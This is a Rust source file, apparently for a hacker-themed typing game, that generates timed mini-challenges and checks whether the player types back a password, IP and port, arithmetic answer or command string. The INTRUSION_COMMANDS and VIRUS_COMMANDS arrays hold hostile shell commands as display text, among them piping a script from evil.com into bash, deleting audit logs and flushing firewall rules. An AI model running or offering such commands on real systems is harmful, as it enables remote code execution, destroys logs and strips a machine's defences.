use rand::seq::SliceRandom;
use rand::Rng;

const PASSWORD_ALPHABET: &str =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!@#$%^&*()";
const PASSWORD_LEN: usize = 8;

const INTRUSION_COMMANDS: [&str; 5] = [
    "killall -9 security",
    "rm -rf /var/log/audit",
    "echo 0 > /proc/sys/security/level",
    "systemctl stop firewall",
    "iptables -F",
];

const VIRUS_COMMANDS: [&str; 5] = [
    "chmod +x virus.sh && ./virus.sh",
    "python3 ransomware.py --encrypt",
    "exec malware.bin --silent",
    "./backdoor -p 4444 -s",
    "curl -s http://evil.com/payload | bash",
];

const WEBCAM_COMMANDS: [&str; 5] = [
    "kill -9 $(pgrep webcam)",
    "echo 1 > /sys/devices/webcam/disable",
    "rmmod uvcvideo",
    "sudo chmod 000 /dev/video0",
    "firewall-cmd --add-rich-rule='rule family=ipv4 source address=10.0.0.1 reject'",
];

/// The six timed mini-challenge kinds.
#[derive(Clone, Copy, Debug, PartialEq, Eq, strum_macros::Display)]
pub enum ChallengeKind {
    Bruteforce,
    Portscan,
    Firewall,
    Intrusion,
    Virus,
    Webcam,
}

impl ChallengeKind {
    pub fn time_limit_secs(self) -> u32 {
        match self {
            ChallengeKind::Bruteforce => 10,
            ChallengeKind::Portscan => 8,
            ChallengeKind::Firewall => 5,
            ChallengeKind::Intrusion => 10,
            ChallengeKind::Virus => 15,
            ChallengeKind::Webcam => 5,
        }
    }

    /// Mission progress granted on success. Intrusion and webcam pay
    /// nothing; clearing them only avoids the breach.
    pub fn progress_reward(self) -> u32 {
        match self {
            ChallengeKind::Bruteforce => 10,
            ChallengeKind::Portscan => 8,
            ChallengeKind::Firewall => 5,
            ChallengeKind::Intrusion => 0,
            ChallengeKind::Virus => 15,
            ChallengeKind::Webcam => 0,
        }
    }

    /// Failing (or timing out) these kinds costs a security breach.
    pub fn breach_on_failure(self) -> bool {
        matches!(self, ChallengeKind::Intrusion | ChallengeKind::Webcam)
    }

    /// Portscan is the only two-phase (memorize, then recall) kind.
    pub fn has_memorize_phase(self) -> bool {
        self == ChallengeKind::Portscan
    }
}

/// Kind-specific randomized content.
#[derive(Clone, Debug, PartialEq)]
pub enum ChallengePayload {
    Bruteforce { password: String },
    Portscan { ip: String, port: u16 },
    Firewall { equation: String, answer: i32 },
    Command { command: String },
}

/// One generated mini-challenge: fixed shape per kind, randomized
/// content, and a countdown budget in seconds.
#[derive(Clone, Debug, PartialEq)]
pub struct Challenge {
    pub kind: ChallengeKind,
    pub payload: ChallengePayload,
    pub time_limit: u32,
}

impl Challenge {
    pub fn generate<R: Rng>(kind: ChallengeKind, rng: &mut R) -> Self {
        let payload = match kind {
            ChallengeKind::Bruteforce => {
                let alphabet: Vec<char> = PASSWORD_ALPHABET.chars().collect();
                let password = (0..PASSWORD_LEN)
                    .map(|_| *alphabet.choose(rng).unwrap())
                    .collect();
                ChallengePayload::Bruteforce { password }
            }
            ChallengeKind::Portscan => {
                let ip = format!(
                    "{}.{}.{}.{}",
                    rng.gen_range(0..256),
                    rng.gen_range(0..256),
                    rng.gen_range(0..256),
                    rng.gen_range(0..256)
                );
                let port = rng.gen_range(0..=65535);
                ChallengePayload::Portscan { ip, port }
            }
            ChallengeKind::Firewall => {
                let num1: i32 = rng.gen_range(1..=10);
                let num2: i32 = rng.gen_range(1..=10);
                let op = *['+', '-', '*'].choose(rng).unwrap();
                let answer = match op {
                    '+' => num1 + num2,
                    '-' => num1 - num2,
                    _ => num1 * num2,
                };
                ChallengePayload::Firewall {
                    equation: format!("{num1} {op} {num2}"),
                    answer,
                }
            }
            ChallengeKind::Intrusion => ChallengePayload::Command {
                command: INTRUSION_COMMANDS.choose(rng).unwrap().to_string(),
            },
            ChallengeKind::Virus => ChallengePayload::Command {
                command: VIRUS_COMMANDS.choose(rng).unwrap().to_string(),
            },
            ChallengeKind::Webcam => ChallengePayload::Command {
                command: WEBCAM_COMMANDS.choose(rng).unwrap().to_string(),
            },
        };

        Self {
            kind,
            payload,
            time_limit: kind.time_limit_secs(),
        }
    }

    /// What the player is asked to reproduce (or solve).
    pub fn prompt_text(&self) -> String {
        match &self.payload {
            ChallengePayload::Bruteforce { password } => password.clone(),
            ChallengePayload::Portscan { ip, port } => format!("{ip}:{port}"),
            ChallengePayload::Firewall { equation, .. } => equation.clone(),
            ChallengePayload::Command { command } => command.clone(),
        }
    }

    /// Exact string match for every kind except firewall, which parses
    /// the typed integer.
    pub fn check_answer(&self, input: &str) -> bool {
        let input = input.trim();
        match &self.payload {
            ChallengePayload::Bruteforce { password } => input == password,
            ChallengePayload::Portscan { ip, port } => input == format!("{ip}:{port}"),
            ChallengePayload::Firewall { answer, .. } => {
                input.parse::<i32>().map(|n| n == *answer).unwrap_or(false)
            }
            ChallengePayload::Command { command } => input == command,
        }
    }
}
